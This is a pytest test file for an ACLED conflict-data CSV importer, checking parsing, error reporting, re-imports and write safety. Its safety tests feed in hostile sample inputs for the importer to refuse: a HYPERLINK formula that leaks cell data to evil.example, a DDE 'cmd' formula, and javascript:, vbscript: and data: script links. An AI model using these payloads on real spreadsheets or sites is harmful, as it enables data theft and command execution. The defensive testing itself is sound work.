"""The ACLED importer on CSV files the tests write: quoting, empty fields, non-Latin names, bad rows, re-runs."""

from __future__ import annotations

import csv
import os
import io
from pathlib import Path

import pytest

from generator.records.content import load_content
from generator.outputs.acled_csv import COLUMNS
from generator.importers.acled import HASH_PREFIX, edited_since_import, import_acled

EXISTING_ACTORS = """\
# The desk's actors
syrian-army:
  name: Syrian Arab Army
  kind: state-forces
"""
EXISTING_PLACES = "aleppo:\n  name: Aleppo\n  country: SY\n  lat: 36.2021\n  lon: 37.1343\n"


def acled_row(**values) -> dict:
    row = {column: "" for column in COLUMNS}
    row.update({"event_id_cnty": "SYR1001", "event_date": "2024-12-05", "year": "2024", "time_precision": "1",
                "disorder_type": "Political violence", "event_type": "Battles",
                "sub_event_type": "Non-state actor overtakes territory", "actor1": "Hayat Tahrir al-Sham",
                "inter1": "Rebel group", "actor2": "Syrian Arab Army", "inter2": "State forces",
                "interaction": "Rebel group-State forces", "iso": "760", "region": "Middle East",
                "country": "Syria", "admin1": "Hama", "location": "Hama", "latitude": "35.1318",
                "longitude": "36.7578", "geo_precision": "1", "source": "Reuters; SOHR",
                "notes": 'On 5 December 2024, HTS-led rebels took Hama, saying "the city is liberated", after '
                         "the army withdrew.",
                "fatalities": "12", "timestamp": "1733400000"})
    row.update(values)
    return row


def write_csv(path: Path, rows: list[dict], columns=COLUMNS) -> Path:
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=columns, lineterminator="\n")
    writer.writeheader()
    for row in rows:
        writer.writerow(row)
    path.write_text(buffer.getvalue(), encoding="utf-8")
    return path


@pytest.fixture
def docs(tmp_path) -> Path:
    docs = tmp_path / "content"
    docs.mkdir()
    (docs / "actors.yml").write_text(EXISTING_ACTORS, encoding="utf-8")
    (docs / "places.yml").write_text(EXISTING_PLACES, encoding="utf-8")
    return docs


def test_import_writes_valid_event_files_and_appends_registries(tmp_path, docs):
    source = write_csv(tmp_path / "acled.csv", [
        acled_row(),
        acled_row(event_id_cnty="SYR1002", event_date="01 December 2024", time_precision="2",
                  event_type="Explosions/Remote violence", sub_event_type="Air/drone strike",
                  actor1="القوات الجوية الروسية", inter1="External/Other forces", actor2="", inter2="",
                  location="Aleppo", admin1="Aleppo", latitude="36.2021", longitude="37.1343",
                  source="", fatalities="0", notes="Air strikes hit Aleppo, killing, injuring, displacing."),
        acled_row(event_id_cnty="SYR1003", event_date="2024-11-15", time_precision="3", location="",
                  latitude="", longitude="", actor2="", notes="", event_type="Strategic developments",
                  sub_event_type="Other"),
    ])
    report = import_acled(source, docs, tag="hts-offensive-2024")
    assert report.ok, report.problems
    assert report.added == ["syr1001", "syr1002", "syr1003"]
    text = (docs / "events/acled/syr1001.yml").read_text(encoding="utf-8")
    assert text.startswith("# yaml-language-server: $schema=../../../schemas/event.schema.json\n" + HASH_PREFIX)
    assert not edited_since_import(text)

    content = load_content(docs, tmp_path)
    assert content.problems == []
    hama = content.events["syr1001"]
    assert (hama.type, hama.subtype, hama.place) == ("battle", "non-state-actor-overtakes-territory", "hama")
    assert hama.summary.startswith('On 5 December 2024, HTS-led rebels took Hama, saying "the city is liberated"')
    assert [s.publisher for s in hama.sources] == ["Reuters", "SOHR"]
    assert hama.fatalities.best == 12 and hama.tags == ("hts-offensive-2024",)
    assert "syrian-army" in hama.actors  # matched the existing entry by name, not duplicated
    strike = content.events["syr1002"]
    assert strike.approximate and strike.date.iso() == "2024-12-01" and strike.place == "aleppo"
    assert (strike.fatalities.best, strike.fatalities.by) == (0, "ACLED")  # "none reported", not "unknown"
    assert strike.sources[0].publisher == "ACLED"
    russian = content.actors[strike.actors[0]]
    assert russian.kind == "external-forces"
    # Arabic script: the name as written for Arabic pages, a romanised draft for English ones and a readable id
    assert russian.name.translations == {"ar": "القوات الجوية الروسية"} and str(russian.name) == "Alqwat Aljwya Alrwsya"
    assert russian.id == "alqwat-aljwya-alrwsya" and russian.native_name == "القوات الجوية الروسية"
    assert content.events["syr1003"].date.iso() == "2024-11"  # time_precision 3: the month only
    # Registries: new entries appended, the editors' text untouched.
    actors_text = (docs / "actors.yml").read_text(encoding="utf-8")
    assert actors_text.startswith(EXISTING_ACTORS)
    assert (docs / "places.yml").read_text(encoding="utf-8").startswith(EXISTING_PLACES)
    assert "hama" in report.places_added and "aleppo" not in report.places_added


def test_rerun_adds_only_new_rows_and_keeps_edited_files(tmp_path, docs):
    source = write_csv(tmp_path / "acled.csv", [acled_row(), acled_row(event_id_cnty="SYR1002")])
    assert import_acled(source, docs).added == ["syr1001", "syr1002"]
    actors_before = (docs / "actors.yml").read_text(encoding="utf-8")

    edited = docs / "events/acled/syr1001.yml"
    edited.write_text(edited.read_text(encoding="utf-8").replace("title:", "title: Edited", 1), encoding="utf-8")
    write_csv(source, [acled_row(fatalities="20"), acled_row(event_id_cnty="SYR1002", fatalities="30"),
                       acled_row(event_id_cnty="SYR1003")])
    report = import_acled(source, docs)
    assert report.added == ["syr1003"]
    assert report.kept == ["events/acled/syr1001.yml"]  # an editor changed it: not overwritten
    assert report.updated == ["syr1002"]  # unedited: refreshed from the newer row
    assert "Edited" in edited.read_text(encoding="utf-8")
    assert (docs / "actors.yml").read_text(encoding="utf-8") == actors_before  # no duplicate actors
    again = import_acled(source, docs)
    assert again.added == [] and again.updated == [] and sorted(again.unchanged) == ["syr1002", "syr1003"]
    assert len(list((docs / "events/acled").glob("*.yml"))) == 3


def test_an_event_written_by_an_editor_elsewhere_is_not_duplicated(tmp_path, docs):
    (docs / "events/2024").mkdir(parents=True)
    (docs / "events/2024/syr1001.yml").write_text("date: 2024-12-05\ntitle: Mine\nsources: [{title: S}]\n")
    report = import_acled(write_csv(tmp_path / "a.csv", [acled_row()]), docs)
    assert report.existing == ["syr1001"] and not (docs / "events/acled").exists()


def test_malformed_rows_are_reported_with_file_and_line(tmp_path, docs):
    path = tmp_path / "broken.csv"
    write_csv(path, [acled_row(notes="First line\nsecond line, quoted"),  # a quoted field over two lines
                     acled_row(event_id_cnty="SYR1002", event_date="2024-13-45"),
                     acled_row(event_id_cnty="SYR1003", latitude="north"),
                     acled_row(event_id_cnty="SYR1004", country="Atlantis", iso="999")])
    with path.open("a", encoding="utf-8") as out:
        out.write("SYR1005,2024-12-05,too,few\n")
    report = import_acled(path, docs)
    assert report.added == ["syr1001"]
    shown = path.as_posix()
    # file:line for the editor's jump, then the row as a spreadsheet numbers it (row 2 spans lines 2-3)
    assert report.problems[0].startswith(f"{shown}:4: row 3: event_date '2024-13-45' is not a date")
    assert report.problems[1].startswith(f"{shown}:5: row 4: latitude 'north' is not a number")
    assert report.problems[2].startswith(f"{shown}:6: row 5: country 'Atlantis'")
    assert report.problems[3].startswith(f"{shown}:7: row 6: has 4 fields")
    assert "Traceback" not in str(report)


def test_not_an_acled_file(tmp_path, docs):
    path = tmp_path / "other.csv"
    path.write_text("a,b\n1,2\n", encoding="utf-8")
    report = import_acled(path, docs)
    assert report.problems == [f"{path.as_posix()}:1: not an ACLED export: missing column(s) event_id_cnty, "
                               "event_date, event_type, notes"]
    assert import_acled(tmp_path / "missing.csv", docs).problems[0].endswith("cannot be read: No such file or directory")


def test_filters_by_country_and_dates(tmp_path, docs):
    source = write_csv(tmp_path / "a.csv", [
        acled_row(), acled_row(event_id_cnty="SYR1002", event_date="2024-11-01"),
        acled_row(event_id_cnty="LBN1", country="Lebanon", iso="422", location="Beirut", latitude="33.8938",
                  longitude="35.5018", admin1="Beirut")])
    report = import_acled(source, docs, country="Syria", start="2024-12-01", end="2024-12-31")
    assert report.added == ["syr1001"] and report.filtered == 2
    report = import_acled(source, docs, country="LB")
    assert report.added == ["lbn1"]


def test_impossible_values_are_row_problems_not_crashes(tmp_path, docs):
    path = write_csv(tmp_path / "odd.csv", [
        acled_row(event_id_cnty="SYR2001", event_date="31 February 2024"),
        acled_row(event_id_cnty="SYR2002", fatalities="\u00b2"),
        acled_row(event_id_cnty="SYR2003", timestamp="9" * 30),
    ])
    report = import_acled(path, docs)
    assert report.added == []
    assert [p.split(": ", 2)[2].split(" '")[0] for p in report.problems] == ["event_date", "fatalities", "timestamp"]


# Safety: formulas, links, bytes, duplicate ids, and never writing through a link -------------------------------

def snapshot(folder: Path) -> dict:
    return {p.relative_to(folder).as_posix(): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


def test_cells_a_spreadsheet_would_run_as_formulas_are_refused_with_their_row(tmp_path, docs):
    path = write_csv(tmp_path / "formulas.csv", [
        acled_row(event_id_cnty="SYR1", notes='=HYPERLINK("http://evil.example/?"&A1,"Click")'),
        acled_row(event_id_cnty="SYR2", actor1="+cmd|' /C calc'!A0"),
        acled_row(event_id_cnty="SYR3", source="Reuters; @SUM(1+1)"),  # each name in a list is a cell of its own
        acled_row(event_id_cnty="SYR4", location="  -2+3"),  # after the spaces a spreadsheet skips
        acled_row(event_id_cnty="SYR5", latitude="-12.5", longitude="-45.25"),  # numbers: fine
    ])
    report = import_acled(path, docs)
    shown = path.as_posix()
    assert report.added == ["syr5"]
    assert report.problems == [
        f"{shown}:2: row 2: notes starts with '=', so a spreadsheet would run "
        f"'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")' as a formula; if it is text, start the cell with "
        "an apostrophe (') and import again, otherwise correct the cell",
        f"{shown}:3: row 3: actor1 starts with '+', so a spreadsheet would run '+cmd|' /C calc'!A0' as a formula; "
        "if it is text, start the cell with an apostrophe (') and import again, otherwise correct the cell",
        f"{shown}:4: row 4: source starts with '@', so a spreadsheet would run '@SUM(1+1)' as a formula; if it is "
        "text, start the cell with an apostrophe (') and import again, otherwise correct the cell",
        f"{shown}:5: row 5: location starts with '-', so a spreadsheet would run '-2+3' as a formula; if it is "
        "text, start the cell with an apostrophe (') and import again, otherwise correct the cell"]
    place = load_content(docs, tmp_path).places["hama"]
    assert (place.lat, place.lon) == (-12.5, -45.25)
    actors = (docs / "actors.yml").read_text(encoding="utf-8")
    assert "cmd" not in actors and "SUM" not in actors  # refused rows leave no registry entries behind


def test_text_marked_with_an_apostrophe_is_imported_as_that_text(tmp_path, docs):
    path = write_csv(tmp_path / "marked.csv", [
        acled_row(event_id_cnty="SYR1", notes="'=SUM(A1) was the headline;' -5 is not a count", actor1="'@desk",
                  source="Reuters;' +963 News", location="'Hama' district"),  # the last is a real apostrophe
    ])
    report = import_acled(path, docs)
    assert report.ok, report.problems
    content = load_content(docs, tmp_path)
    event = content.events["syr1"]
    assert event.summary == "=SUM(A1) was the headline; -5 is not a count"
    assert "@desk" in {content.actors[a].name for a in event.actors}
    assert [s.publisher for s in event.sources] == ["Reuters", "+963 News"]
    assert content.places[event.place].name == "'Hama' district"
    assert [w.split(": ", 3)[2].split(" ", 1)[0] for w in report.warnings] == ["actor1", "notes", "source"]
    assert "row 2: notes has an apostrophe marking text" in report.warnings[1]
    assert "imported as that text" in str(report)


def test_unsafe_links_in_notes_are_refused_at_import(tmp_path, docs):
    path = write_csv(tmp_path / "links.csv", [
        acled_row(event_id_cnty="SYR1", notes="See [the map](javascript:alert(document.cookie))."),
        acled_row(event_id_cnty="SYR2", notes="Mail <vbscript:msgbox(1)> now."),
        acled_row(event_id_cnty="SYR3", notes="A [report][r].\n\n[r]: data:text/html,<script>alert(1)</script>"),
        acled_row(event_id_cnty="SYR4", notes="See [it](java\tscript:alert(1))."),
        acled_row(event_id_cnty="SYR5", notes="See [Reuters](https://www.reuters.com/) or <mailto:desk@example.org>."),
    ])
    report = import_acled(path, docs)
    assert report.added == ["syr5"]
    shown = path.as_posix()
    assert report.problems[0] == (f"{shown}:2: row 2: notes links to 'javascript:alert(document.cookie'; only "
                                  "http(s) and mailto links may be imported: correct or remove the link in the cell")
    assert report.problems[1].startswith(f"{shown}:3: row 3: notes links to 'vbscript:msgbox(1)'")
    assert report.problems[2].startswith(f"{shown}:4: row 4: notes links to 'data:text/html,<script")
    assert report.problems[3].startswith(f"{shown}:7: row 5: notes links to 'java'")  # a tab ends the address
    assert not (docs / "events/acled/syr1.yml").exists()


def test_a_byte_that_is_not_utf8_is_reported_at_its_row_and_line(tmp_path, docs):
    path = write_csv(tmp_path / "latin1.csv", [
        acled_row(event_id_cnty="SYR1"),
        acled_row(event_id_cnty="SYR2", notes="A note over\ntwo lines, then a name: CAFE"),
        acled_row(event_id_cnty="SYR3"),
    ])
    data = path.read_bytes().replace(b"CAFE", b"CAF\xc9")  # Latin-1's É, as Excel's plain "CSV" saves it
    path.write_bytes(data)
    report = import_acled(path, docs)
    assert report.added == ["syr1", "syr3"]  # the rows before and after it are read
    assert report.problems == [f"{path.as_posix()}:4: row 3: byte 0xC9 in notes is not UTF-8; save the file as "
                               "UTF-8 (in Excel: Save As, 'CSV UTF-8'), then import again"]
    assert "Traceback" not in str(report)


def test_a_header_that_is_not_utf8(tmp_path, docs):
    path = tmp_path / "utf16.csv"
    path.write_bytes(b"\xff\xfe" + "event_id_cnty,event_date,event_type,notes\n".encode("utf-16-le"))
    report = import_acled(path, docs)
    assert report.problems == [f"{path.as_posix()}:1: row 1: byte 0xFF in the header row is not UTF-8; save the "
                               "file as UTF-8 (in Excel: Save As, 'CSV UTF-8'), then import again"]


def test_duplicate_ids_are_reported_with_both_rows(tmp_path, docs):
    path = write_csv(tmp_path / "dupes.csv", [
        acled_row(event_id_cnty="SYR1"),
        acled_row(event_id_cnty="SYR1"),  # the same row again
        acled_row(event_id_cnty="SYR 2", fatalities="3", actor1="Named only on row four"),
        acled_row(event_id_cnty="syr-2", fatalities="30"),  # the same id once slugged; different figures
        acled_row(event_id_cnty="SYR3"),
    ])
    report = import_acled(path, docs)
    shown = path.as_posix()
    assert report.added == ["syr1", "syr3"]
    assert report.problems == [
        f"{shown}:3: row 3: repeats row 2 (line 2) exactly; it was imported once; delete the repeated row",
        f"{shown}:5: row 5: event_id_cnty 'syr-2' is the id 'syr-2', which row 4 (line 4) already has (as 'SYR 2'), "
        "but the rows differ, so neither was imported; give each event its own event_id_cnty, or delete the "
        "wrong row"]
    assert not (docs / "events/acled/syr-2.yml").exists()
    assert "Named only on row four" not in (docs / "actors.yml").read_text(encoding="utf-8")  # no orphan entry


def test_control_characters_are_refused_and_shown_escaped(tmp_path, docs):
    path = write_csv(tmp_path / "controls.csv", [
        acled_row(event_id_cnty="SYR1", actor1="Rebels\u202e.exe"),
        acled_row(event_id_cnty="SYR2", event_date="\x1b[2J2024-12-05"),  # would clear the editor's terminal
    ])
    report = import_acled(path, docs)
    assert report.added == []
    assert report.problems[0].endswith("row 2: actor1 holds the invisible character U+202E; delete it from the cell")
    assert "\x1b" not in str(report) and "event_date '\\x1b[2J2024-12-05'" in report.problems[1]


@pytest.fixture
def outside(tmp_path) -> Path:
    folder = tmp_path / "elsewhere"
    folder.mkdir()
    (folder / "precious.yml").write_text("mine: true\n", encoding="utf-8")
    return folder


def test_never_writes_through_a_linked_folder(tmp_path, docs, outside):
    (docs / "events").mkdir()
    (docs / "events/acled").symlink_to(outside, target_is_directory=True)
    before, outside_before = snapshot(docs), snapshot(outside)
    report = import_acled(write_csv(tmp_path / "a.csv", [acled_row()]), docs)
    assert report.problems == [
        f"{(docs / 'events/acled').as_posix()}: is a link to {outside}, and the importer never writes through a "
        "link, so nothing was imported; replace the link with a real folder (or import into a copy of the content)"]
    assert report.added == [] and report.actors_added == [] and report.places_added == []
    assert snapshot(outside) == outside_before and snapshot(docs) == before  # registries untouched too


def test_never_writes_through_a_linked_file(tmp_path, docs, outside):
    (docs / "events/acled").mkdir(parents=True)
    # A dangling link where the import would create a file: writing would create elsewhere/new.yml.
    (docs / "events/acled/syr1001.yml").symlink_to(outside / "new.yml")
    report = import_acled(write_csv(tmp_path / "a.csv", [acled_row()]), docs)
    assert len(report.problems) == 1 and "syr1001.yml: is a link to" in report.problems[0]
    assert "replace the link with a real file" in report.problems[0]
    assert not (outside / "new.yml").exists() and not (docs / "events/acled/.tmp").exists()
    assert (docs / "actors.yml").read_text(encoding="utf-8") == EXISTING_ACTORS


def test_never_appends_to_a_linked_registry(tmp_path, docs, outside):
    (docs / "actors.yml").unlink()
    (docs / "actors.yml").symlink_to(outside / "precious.yml")
    report = import_acled(write_csv(tmp_path / "a.csv", [acled_row()]), docs)
    assert report.problems and "actors.yml: is a link to" in report.problems[0]
    assert (outside / "precious.yml").read_text(encoding="utf-8") == "mine: true\n"
    assert not (docs / "events").exists()


def test_never_writes_outside_the_content_folder(tmp_path, docs, outside):
    report = import_acled(write_csv(tmp_path / "a.csv", [acled_row()]), docs, events_dir="../elsewhere")
    assert report.problems and report.problems[0].endswith(
        "is outside the content folder " + docs.as_posix() + ", so nothing was imported; keep events_dir, "
        "actors_file and places_file inside docs_dir")
    assert snapshot(outside) == {"precious.yml": b"mine: true\n"}


def test_a_hard_link_is_replaced_not_written_through(tmp_path, docs, outside):
    source = write_csv(tmp_path / "a.csv", [acled_row()])
    import_acled(source, docs)
    imported = docs / "events/acled/syr1001.yml"
    os.link(imported, outside / "copy.yml")
    copy_before = (outside / "copy.yml").read_bytes()
    write_csv(source, [acled_row(fatalities="40")])
    assert import_acled(source, docs).updated == ["syr1001"]
    assert "best: 40" in imported.read_text(encoding="utf-8")
    assert (outside / "copy.yml").read_bytes() == copy_before


def test_a_failed_write_leaves_no_half_written_file(tmp_path, docs, monkeypatch):
    import generator.importers.acled as importer

    source = write_csv(tmp_path / "a.csv", [acled_row(), acled_row(event_id_cnty="SYR1002")])
    real_replace, calls = os.replace, []

    def full_disk(src, dst):
        calls.append(dst)
        if str(dst).endswith("syr1002.yml"):
            raise OSError(28, "No space left on device")
        return real_replace(src, dst)

    monkeypatch.setattr(importer.os, "replace", full_disk)
    report = import_acled(source, docs)
    assert report.added == ["syr1001"]
    assert report.problems == [f"{(docs / 'events/acled/syr1002.yml').as_posix()}: cannot be written: No space left "
                               "on device; this event was not imported"]
    assert sorted(p.name for p in (docs / "events/acled").iterdir()) == ["syr1001.yml"]  # no temporary file left
    assert [Path(c).name for c in calls][:2] == ["actors.yml", "places.yml"]  # registries first


def test_registries_keep_their_bytes_when_appended(tmp_path, docs):
    (docs / "actors.yml").write_bytes(b"\xef\xbb\xbf" + EXISTING_ACTORS.replace("\n", "\r\n").encode("utf-8"))
    before = (docs / "actors.yml").read_bytes()
    report = import_acled(write_csv(tmp_path / "a.csv", [acled_row()]), docs)
    assert report.ok and report.actors_added == ["hayat-tahrir-al-sham"]
    after = (docs / "actors.yml").read_bytes()
    assert after.startswith(before) and b"# Added by the ACLED import\n" in after
    assert "hayat-tahrir-al-sham" in load_content(docs, tmp_path).actors
